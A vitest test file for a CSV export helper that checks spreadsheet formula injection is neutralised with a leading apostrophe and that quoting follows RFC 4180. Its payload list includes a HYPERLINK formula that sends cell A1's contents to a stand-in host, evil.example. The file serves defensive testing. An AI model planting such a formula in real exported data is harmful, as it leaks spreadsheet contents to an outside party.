import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv } from './csv';

/**
 * Formula neutralising as OWASP's "CSV Injection" page describes it: cells starting with = + - @,
 * tab or carriage return get a leading apostrophe. papaparse's own parser is the oracle for the
 * quoting (RFC 4180): what we write reads back cell for cell.
 */
describe('toCsv', () => {
	const payloads = [
		'=HYPERLINK("https://evil.example/?d="&A1,"Open")',
		'+SUM(1,2)',
		'-2+3',
		'@SUM(A1)',
		'\t=1+1',
		'\r=1+1',
		'=HYPERLINK("x")\nsecond line'
	];

	it.each(payloads.map((p) => [JSON.stringify(p), p]))('neutralises %s', (_l, p) => {
		const csv = toCsv(['name'], [[p]]);
		const [, [cell]] = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data;
		expect(cell).toBe(`'${p}`);
	});

	it('leaves numbers, plain text and empty cells alone, and quotes what RFC 4180 asks', () => {
		const csv = toCsv(
			['a', 'b', 'c', 'd', 'e'],
			[[-3.5, 'plain, with comma', null, 'say "hi"', "it's"]]
		);
		expect(csv).toBe('a,b,c,d,e\r\n-3.5,"plain, with comma",,"say ""hi""",it\'s\r\n');
		expect(neutraliseCell(Number.NaN)).toBe('');
	});

	it('neutralises the header too (variant names become column names)', () => {
		expect(toCsv(['=cmd'], [])).toBe("'=cmd\r\n");
	});
});
